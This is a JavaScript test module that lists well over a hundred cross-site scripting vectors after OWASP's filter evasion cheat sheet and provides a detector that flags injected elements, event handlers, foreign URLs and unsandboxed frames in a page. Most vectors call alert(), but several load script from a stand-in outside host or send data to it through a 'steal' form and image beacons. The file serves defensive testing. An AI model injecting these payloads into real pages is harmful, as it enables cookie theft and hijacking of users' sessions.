// Vectors of cross-site scripting, after the "XSS Filter Evasion Cheat Sheet" of OWASP
// (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), and the ways
// out of where our pages put text: elements, attributes, scripts, styles, JSON, templates.
//
// Each of them, were it to run, would call alert(), which a test sees as a dialog.

const ELSEWHERE = "https://xss.example.net";

export const vectors = [
  // Scripts.
  "<script>alert('xss')</script>",
  "<SCRIPT>alert(/xss/.source)</SCRIPT>",
  `<SCRIPT SRC=${ELSEWHERE}/xss.js></SCRIPT>`,
  `<SCRIPT SRC=//xss.example.net/.j>`,
  "<script>alert(1)//",
  "<SCRIPT/XSS SRC=\"https://xss.example.net/xss.js\"></SCRIPT>",
  "<SCRIPT/SRC=\"https://xss.example.net/xss.js\"></SCRIPT>",
  "<<SCRIPT>alert(\"xss\");//\\<</SCRIPT>",
  "<SCRIPT a=\">\" SRC=\"https://xss.example.net/xss.js\"></SCRIPT>",
  "<SCRIPT =\">\" SRC=\"https://xss.example.net/xss.js\"></SCRIPT>",
  "<SCRIPT a=\">\" '' SRC=\"https://xss.example.net/xss.js\"></SCRIPT>",
  "<SCRIPT \"a='>'\" SRC=\"https://xss.example.net/xss.js\"></SCRIPT>",
  "<SCRIPT a=`>` SRC=\"https://xss.example.net/xss.js\"></SCRIPT>",
  "<SCRIPT a=\">'>\" SRC=\"https://xss.example.net/xss.js\"></SCRIPT>",
  "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"https://xss.example.net/xss.js\"></SCRIPT>",
  "<script type=module>alert('xss')</script>",
  "<script nonce=\"\">alert('xss')</script>",
  "<scr<script>ipt>alert('xss')</scr</script>ipt>",
  "</script><script>alert('xss')</script>",
  "</title><script>alert('xss')</script>",
  "</textarea><script>alert('xss')</script>",
  "</style><script>alert('xss')</script>",
  "</noscript><script>alert('xss')</script>",
  "--><script>alert('xss')</script><!--",
  "]]><script>alert('xss')</script>",
  "'\"><script>alert('xss')</script>",
  "\"><script>alert(String.fromCharCode(88,83,83))</script>",
  "';alert(String.fromCharCode(88,83,83))//';alert(String.fromCharCode(88,83,83))//\";" +
    "alert(String.fromCharCode(88,83,83))//\";alert(String.fromCharCode(88,83,83))//--" +
    "></SCRIPT>\">'><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
  "'';!--\"<XSS>=&{()}",
  "\\\";alert('xss');//",
  "\\x3cscript\\x3ealert('xss')\\x3c/script\\x3e",
  "\\u003cscript\\u003ealert('xss')\\u003c/script\\u003e",
  "&lt;script&gt;alert('xss')&lt;/script&gt;",
  "&#60;script&#62;alert('xss')&#60;/script&#62;",
  "%3Cscript%3Ealert('xss')%3C/script%3E",
  "+ADw-SCRIPT+AD4-alert('xss');+ADw-/SCRIPT+AD4-",
  "\u00bcscript\u00bealert(\u00a2xss\u00a2)\u00bc/script\u00be",
  // Images.
  "<IMG SRC=\"javascript:alert('xss');\">",
  "<IMG SRC=javascript:alert('xss')>",
  "<IMG SRC=JaVaScRiPt:alert('xss')>",
  "<IMG SRC=javascript:alert(&quot;xss&quot;)>",
  "<IMG SRC=`javascript:alert(\"RSnake says, 'xss'\")`>",
  "<IMG \"\"\"><SCRIPT>alert(\"xss\")</SCRIPT>\"\\>",
  "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
  "<IMG SRC=# onmouseover=\"alert('xss')\">",
  "<IMG SRC= onmouseover=\"alert('xss')\">",
  "<IMG onmouseover=\"alert('xss')\">",
  "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
  "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105" +
    "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039" +
    "&#0000088&#0000083&#0000083&#0000039&#0000041\">",
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;" +
    "&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28" +
    "&#x27&#x58&#x53&#x53&#x27&#x29>",
  "<IMG SRC=\"jav\tascript:alert('xss');\">",
  "<IMG SRC=\"jav&#x09;ascript:alert('xss');\">",
  "<IMG SRC=\"jav&#x0A;ascript:alert('xss');\">",
  "<IMG SRC=\"jav&#x0D;ascript:alert('xss');\">",
  "<IMG SRC=\" &#14; javascript:alert('xss');\">",
  "<IMG SRC=\"`('xss')\"`",
  "<IMG DYNSRC=\"javascript:alert('xss')\">",
  "<IMG LOWSRC=\"javascript:alert('xss')\">",
  "<IMG SRC='vbscript:msgbox(\"xss\")'>",
  "<img src=x:x onerror=alert(1)//",
  "<img/src=x/onerror=alert(1)>",
  "\"><img src=x onerror=alert(1)>",
  "' onerror=alert(1) src=x '",
  "\" onmouseover=alert(1) autofocus onfocus=alert(1) x=\"",
  "' autofocus onfocus=alert(1) '",
  "` onfocus=alert(1) autofocus `",
  `"><img src=${ELSEWHERE}/leak.png>`,
  `<img srcset="${ELSEWHERE}/leak.png 1x">`,
  // Other elements.
  "<svg/onload=alert('xss')>",
  "<svg><script>alert&#40;1&#41;</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>xss</text></a></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<BODY ONLOAD=alert('xss')>",
  "<BODY BACKGROUND=\"javascript:alert('xss')\">",
  "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"xss\")>",
  "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('xss');\">",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=\"alert(1)\">",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>xss</marquee>",
  "<BGSOUND SRC=\"javascript:alert('xss');\">",
  "<IFRAME SRC=\"javascript:alert('xss');\"></IFRAME>",
  "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
  "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
  `<iframe src=${ELSEWHERE}/scriptlet.html <`,
  "<FRAMESET><FRAME SRC=\"javascript:alert('xss');\"></FRAMESET>",
  "<TABLE BACKGROUND=\"javascript:alert('xss')\">",
  "<TABLE><TD BACKGROUND=\"javascript:alert('xss')\">",
  `<OBJECT TYPE="text/x-scriptlet" DATA="${ELSEWHERE}/scriptlet.html"></OBJECT>`,
  "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" " +
    "type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
  "<BASE HREF=\"javascript:alert('xss');//\">",
  `<base href="${ELSEWHERE}/">`,
  "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('xss');\">",
  `<LINK REL="stylesheet" HREF="${ELSEWHERE}/xss.css">`,
  "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('xss');\">",
  "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64," +
    "PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/">`,
  "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('xss')</SCRIPT>\">",
  `<form action=${ELSEWHERE}/steal><button>Approve</button></form>`,
  `<button formaction="javascript:alert(1)">Approve</button>`,
  // Links.
  "<a href=\"javascript:alert('xss')\">xss</a>",
  "<a href=\"jAvAsCrIpT&colon;alert(1)\">xss</a>",
  "<a href=\"\u0001javascript:alert(1)\">xss</a>",
  "<a href=\"data:text/html,<script>alert(1)</script>\">xss</a>",
  "<a onmouseover=\"alert(document.cookie)\">xss link</a>",
  "\\<a onmouseover=alert(document.cookie)\\>xss link\\</a\\>",
  "<A HREF=\"//www.example.net\">xss</A>",
  "[xss](javascript:alert('xss'))",
  "[xss](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "![xss](x\"onerror=\"alert(1))",
  "<javascript:alert(1)>",
  "javascript:alert(1)",
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]" +
    "/+alert(1)//'>",
  // Styles.
  "<STYLE>li {list-style-image: url(\"javascript:alert('xss')\");}</STYLE><UL><LI>xss</br>",
  "<STYLE>@import'https://xss.example.net/xss.css';</STYLE>",
  "<STYLE>BODY{-moz-binding:url(\"https://xss.example.net/xssmoz.xml#xss\")}</STYLE>",
  "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"xss\")';</STYLE>",
  "<DIV STYLE=\"background-image: url(javascript:alert('xss'))\">",
  "<DIV STYLE=\"width: expression(alert('xss'));\">",
  "<XSS STYLE=\"xss:expression(alert('xss'))\">",
  `<div style="background:url(${ELSEWHERE}/leak.png);position:fixed;inset:0">`,
  "<style>*{display:none}</style>",
  // Templates and other languages.
  "{{{csrf}}} {{csrf}} {{> pages/layout}} {{#t}}{{.}}{{/t}}",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "<!--#exec cmd=\"/bin/echo '<SCR'\"-->",
  "<? echo('<SCR)'; echo('IPT>alert(\"xss\")</SCRIPT>'); ?>",
  "<!--[if gte IE 4]><SCRIPT>alert('xss');</SCRIPT><![endif]-->",
  "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
  "<!DOCTYPE html><html onmouseenter=alert(1)>",
  "\u202e<script>alert(1)</script>\u2066",
];

// In a page of ours: what no template of ours writes, as sentences. The frame of a letter is another
// document, and not looked into.
export function intruders() {
  const found = [];
  const ours = (url) => url === "" || /^([/?#](?!\/)|mailto:)/.test(url) || url.startsWith(location.origin);
  const never = "object, embed, applet, base, frame, frameset, marquee, bgsound, audio, video, img, " +
    "math, xss, animate, meta[http-equiv], svg script, svg image, svg a, foreignObject";
  for (const one of document.querySelectorAll(never)) found.push(one.outerHTML.slice(0, 200));
  for (const one of document.querySelectorAll("*:not(link[rel=icon][href^='data:image/'])")) {
    for (const { name, value } of one.attributes) {
      const isUrl = /^(href|src|action|formaction|data|poster|srcdoc|srcset|xlink:href|background)$/
        .test(name);
      if (/^on/.test(name) || (isUrl && !ours(value.trim()))) {
        found.push(`${name} of ${one.outerHTML.slice(0, 200)}`);
      }
    }
  }
  for (const script of document.scripts) {
    if (!script.src.startsWith(`${location.origin}/assets/`)) found.push(script.outerHTML.slice(0, 200));
  }
  for (const frame of document.querySelectorAll("iframe")) {
    if (!frame.hasAttribute("sandbox") || /allow-(scripts|same|top)/.test(frame.sandbox)) {
      found.push(frame.outerHTML.slice(0, 200));
    }
  }
  return found;
}
